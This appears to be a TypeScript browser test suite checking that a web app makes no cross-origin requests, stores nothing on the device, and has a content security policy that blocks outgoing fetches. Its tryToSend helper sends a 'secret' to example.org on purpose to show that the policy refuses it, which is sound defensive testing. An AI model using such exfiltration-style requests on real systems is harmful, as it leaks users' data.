import { findBrowser } from '@lamjs/tooling/browser'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Site, serveSite } from './open-page.js'
import { openReady } from './reading.js'

/** Runs in page or worker: tries to get something out. Resolves to the directive that forbade it. */
async function tryToSend(): Promise<string> {
  const refused = new Promise<string>((resolve) => {
    addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
  })
  const sent = fetch('https://example.org/?text=secret').then(
    () => 'sent',
    () => refused,
  )
  return sent
}

describe.skipIf(findBrowser() === undefined)('privacy, in a browser', () => {
  let site: Site
  beforeAll(async () => {
    site = await serveSite()
  })
  afterAll(() => site?.close())

  it('asks nothing of any other origin, whatever is used', async () => {
    const page = await openReady(site)
    for (const name of ['Search', 'Long text', 'Engine', 'Compare']) {
      await page.getByRole('tab', { name }).click()
      await page.waitForTimeout(700)
    }
    await page.getByLabel('Texts, one a line').fill('https://example.org/\n<img src="https://example.org/x.png">')
    await page.getByTestId('texts-status').filter({ hasText: '2 texts' }).filter({ hasNotText: 'waiting' }).waitFor()
    expect(site.requests.length).toBeGreaterThan(5)
    expect(site.requests.filter((url) => new URL(url).origin !== site.origin)).toEqual([])
    await page.context().close()
  })

  it('keeps nothing on the device', async () => {
    const page = await openReady(site)
    expect(await page.context().cookies()).toEqual([])
    expect(await page.evaluate(() => localStorage.length + sessionStorage.length)).toBe(0)
    await page.context().close()
  })

  it('is kept by the browser: the policy forbids sending, from the page and from the worker', async () => {
    const page = await openReady(site)
    expect(await page.evaluate(tryToSend)).toBe('connect-src')
    const [worker] = page.workers()
    expect(await worker.evaluate(tryToSend)).toBe('connect-src')
    await page.context().close()
  })
})
